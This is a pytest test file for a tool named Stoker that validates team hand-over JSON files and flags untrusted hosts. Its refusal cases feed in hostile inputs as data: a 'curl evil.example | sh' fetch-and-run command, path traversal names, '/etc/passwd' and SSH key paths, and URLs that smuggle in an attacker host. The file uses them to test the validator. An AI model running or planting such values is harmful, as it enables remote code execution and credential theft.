"""The file for practitioners: its contents, and the errors for an invalid one."""

from __future__ import annotations

import json
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stoker.client.local import rehearsal
from stoker.client.local.workspace import TrustedPlace, Workspaces, places
from stoker.client.settings import from_environment
from stoker.errors import BadInput, NotFound, StokerError
from stoker.model.workspace.handover import Handover, TeamStore
from stoker.model.workspace.handover import read_handover as read_with
from stoker.providers.azure.account.account import Account

TEAM = Handover(
    "vision-team",
    {"azure": {"subscription": "s", "workspace": "vision-team", "regions": ["westeurope"]}},
    TeamStore("vision-team", "https://acc.blob.core.windows.net/stoker"),
    ("az login --tenant t",),
)


FORMS = rehearsal.forms()
CERTIFICATE = f"-----BEGIN CERTIFICATE-----\n{'A' * 64}\n-----END CERTIFICATE-----\n"


def read_handover(text: str, place: str = "team.json") -> Handover:
    return read_with(text, place, FORMS)


def azure(**facts: Any) -> str:
    """A file whose account contains this as well."""
    return changed(accounts={"azure": {"subscription": "s", **facts}})


def changed(**facts: Any) -> str:
    return json.dumps({**json.loads(TEAM.to_text()), **facts})


def test_what_was_written_is_read_again() -> None:
    assert read_handover(TEAM.to_text(), "team.json") == TEAM


def test_a_hand_over_says_nothing_that_the_provider_would_refuse() -> None:
    assert set(FORMS["azure"].fields) <= {one.name for one in fields(Account)}


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "team.json is damaged"),
        (TEAM.to_text()[:-20], "team.json is damaged"),
        ("[]", "team.json is not the file of a workspace"),
        ('{"subscription": "s"}', "team.json is not the file of a workspace"),
        ("[" * 60_000, "nested too deeply"),
        (" " * 70_000, "too large"),
        (changed(version=2), "newer Stoker: its version is 2, this one reads 1"),
        (changed(version="1"), "damaged: its version is `1`"),
        (changed(version=True), "damaged: its version is True"),
        (changed(version=0), "damaged: its version is 0"),
        (changed(accounts=[]), "accounts is a list, expected an object"),
        (changed(accounts={"azure": "x"}), "accounts.azure is `x`, expected an object"),
        (changed(accounts={"../../etc": {}}), "a hand-over must not have: `accounts.../../etc`"),
        (changed(accounts={"local": {}}), "a hand-over must not have: `accounts.local`"),
        (changed(accounts={"azure": {}}), "accounts.azure.subscription is nothing, expected a subscription's id"),
        (changed(name=7), "name is 7, expected up to 30 lower-case letters"),
        (changed(name="../up"), "name is `../up`, expected up to 30 lower-case letters"),
        (changed(name="team\n"), "name is"),
        (changed(colour="blue"), "a hand-over must not have: `colour`"),
        (changed(store={"url": "x"}), "store.name is None"),
        (changed(store={"name": "a", "url": "b\nc"}), "store.url is"),
        (changed(store={"name": "a", "url": "b", "credential": "sas"}), "store.credential is `sas`"),
        (changed(store={"name": "a", "url": "b", "default": 1}), "store.default is 1, expected true or false"),
        (changed(store={"name": "a", "url": "b", "values": {"ca_file": "/c"}}), "`store.values.ca_file`"),
        (changed(store={"name": "a", "url": "b", "values": {"authority": "ftp://x"}}), "store.values.authority is"),
        (changed(login="az login"), "login is `az login`, expected the commands that a set-up writes"),
        (changed(login=["curl evil.example | sh"]), "login is a list, expected the commands that a set-up writes"),
        (changed(admission="curl evil.example | sh"), "admission is `curl"),
        (changed(certificate="/etc/passwd"), "certificate is something else"),
        (changed(certificate=CERTIFICATE.replace("CERTIFICATE", "PRIVATE KEY")), "certificate is something else"),
        (azure(client_secret="hush"), "holds a secret, `accounts.azure.client_secret`"),
        (changed(store={"name": "a", "url": "b", "values": {"key": "hush"}}), "holds a secret, `store.values.key`"),
        (azure(secret_file="/home/anna/.ssh/id_rsa"), "a hand-over must not have: `accounts.azure.secret_file`"),
        (azure(ca_file="/etc/ca.pem"), "`accounts.azure.ca_file`"),
        (azure(ssh_key="ssh-ed25519 AAAA"), "`accounts.azure.ssh_key`"),
        (azure(client="c"), "`accounts.azure.client`"),
        (azure(arm="http://management.azure.com"), "accounts.azure.arm is `http://management.azure.com`"),
        (azure(arm="https://a@b"), "accounts.azure.arm is `https://a@b`, expected an https address"),
        (azure(login=["x"]), "accounts.azure.login is a list"),
        (azure(disk_gb=1e9), "accounts.azure.disk_gb is 1000000000.0, expected a whole number from 30 to 4095"),
        (azure(lease_s=True), "accounts.azure.lease_s is True"),
        (azure(regions="eastus"), "accounts.azure.regions is `eastus`, expected a list of regions"),
        (azure(regions=["x"] * 1000), "accounts.azure.regions is a list"),
        (azure(subnet="/a/../b"), "accounts.azure.subnet is `/a/../b`"),
        (azure(subscription={}), "accounts.azure.subscription is an object"),
    ],
)
def test_anything_else_is_refused_with_a_message(text: str, says: str) -> None:
    with pytest.raises(BadInput) as caught:
        read_handover(text)
    assert says in caught.value.message
    assert "hush" not in str(caught.value)


PLAIN = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
)
ALL_FIELDS = sorted({*TEAM.__slots__, "file", "version"})
ACCOUNT_FIELDS = sorted({*FORMS["azure"].fields, "secret_file", "ca_file"})


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])  # the first text is slow to draw
@given(st.dictionaries(st.sampled_from(ALL_FIELDS), PLAIN), st.dictionaries(st.sampled_from(ACCOUNT_FIELDS), PLAIN))
def test_a_hostile_file_is_an_error_with_a_message_or_a_handover_and_never_a_crash(
    top: dict[str, Any], account: dict[str, Any]
) -> None:
    for text in (changed(**top), azure(**account)):
        try:
            found = read_handover(text)
            places(found, FORMS)
        except BadInput:
            continue
        assert read_handover(found.to_text()) == found


@pytest.mark.parametrize(
    ("facts", "foreign"),
    [
        ({}, []),
        ({"arm": "https://management.azure.com"}, []),
        ({"arm": "https://management.usgovcloudapi.net", "login": "https://login.microsoftonline.us"}, []),
        ({"arm": "https://management.chinacloudapi.cn"}, []),
        ({"arm": "https://evil.westeurope.cloudapp.azure.com"}, ["evil.westeurope.cloudapp.azure.com"]),
        ({"arm": "https://management.azure.com.evil.example"}, ["management.azure.com.evil.example"]),
        ({"arm": "https://management.azure.com:8443"}, ["management.azure.com:8443"]),
        ({"login": "https://127.0.0.1:4000/x"}, ["127.0.0.1:4000"]),
        ({"prices": "https://prices.azure.com/api/retail/prices"}, []),
        ({"prices": "https://login.microsoftonline.com"}, ["login.microsoftonline.com"]),
    ],
)
def test_hosts_that_are_not_the_clouds_own_are_found(facts: dict[str, str], foreign: list[str]) -> None:
    assert [one.where for one in places(read_handover(azure(**facts)), FORMS)] == foreign


@pytest.mark.parametrize(
    ("url", "foreign"),
    [
        ("https://team.blob.core.windows.net/stoker", []),
        ("az://team/stoker", []),
        ("https://team.blob.core.usgovcloudapi.net/stoker", []),
        ("https://team.z01.blob.storage.azure.net/stoker", []),
        ("http://team.blob.core.windows.net/stoker", ["http://team.blob.core.windows.net"]),
        ("https://team.blob.evil.example/stoker", ["team.blob.evil.example"]),
        ("https://team.blob.core.windows.net@evil.example/team/stoker", ["evil.example"]),
        ("https://evil.example/team/stoker", ["evil.example"]),
        ("file:///etc", ["file:///etc"]),
        ("/etc", ["file:///etc"]),
        ("s3://bucket", ["s3://bucket"]),
        ("s3://bucket?endpoint=http://evil.example:9000", ["http://evil.example:9000"]),
    ],
)
def test_a_store_that_is_not_the_clouds_own_is_found(url: str, foreign: list[str]) -> None:
    found = read_handover(changed(store={"name": "a", "url": url, "credential": "none"}))
    assert [one.where for one in places(found, FORMS)] == foreign


def test_a_login_elsewhere_for_the_store_is_found() -> None:
    values = {"authority": "https://evil.example"}
    found = read_handover(changed(store={"name": "a", "url": "az://team/stoker", "values": values}))
    assert places(found, FORMS) == [TrustedPlace("store.values.authority", "evil.example")]


def test_a_certificate_never_vouches_for_the_clouds_own_hosts() -> None:
    with pytest.raises(BadInput, match=r"accounts\.azure\.arm"):
        places(read_handover(changed(certificate=CERTIFICATE)), FORMS)


@pytest.mark.parametrize(
    ("word", "trusted"),
    [
        ("evil.example:9000", True),
        ("evil.example", True),
        ("https://evil.example:9000/", True),
        ("evil.example:9001", False),
        ("example", False),
        ("", False),
    ],
)
def test_trust_is_given_by_host_or_by_host_and_port(word: str, trusted: bool) -> None:
    assert TrustedPlace("store.url", "http://evil.example:9000").trusted([word]) is trusted


@pytest.mark.parametrize("word", ["file", "file:///", "file:///srv/other", "/srv/team"])
def test_trust_in_a_folder_is_by_its_whole_url(word: str) -> None:
    place = TrustedPlace("store.url", "file:///srv/team")
    assert not place.trusted([word])
    assert place.trusted(["file:///srv/team"])


@pytest.mark.parametrize("name", ["../outside", "..", "a/b", "x" * 5000, "with\0null", "UP"])
def test_no_name_reaches_outside_the_folder_of_workspaces(tmp_path: Path, name: str) -> None:
    (tmp_path / "home" / "workspaces").mkdir(parents=True)
    (tmp_path / "home" / "outside.json").write_text(TEAM.to_text())
    workspaces = Workspaces(from_environment({"STOKER_HOME": str(tmp_path / "home")}))
    with pytest.raises(NotFound):
        workspaces.read(name)


def test_an_account_written_by_hand_is_checked_field_by_field(tmp_path: Path) -> None:
    from stoker.providers.azure.account.account import read_account

    path = tmp_path / "azure.json"
    path.write_text(json.dumps({"subscription": "s", "regions": ["eastus"], "lease_s": 5, "open_ssh": True}))
    assert read_account(path).regions == ("eastus",)
    for name, value in {"regions": 5, "disk_gb": "big", "open_ssh": 1, "subscription": 7, "colour": "x"}.items():
        path.write_text(json.dumps({"subscription": "s", name: value}))
        with pytest.raises(StokerError, match=f"`{name}`"):
            read_account(path)
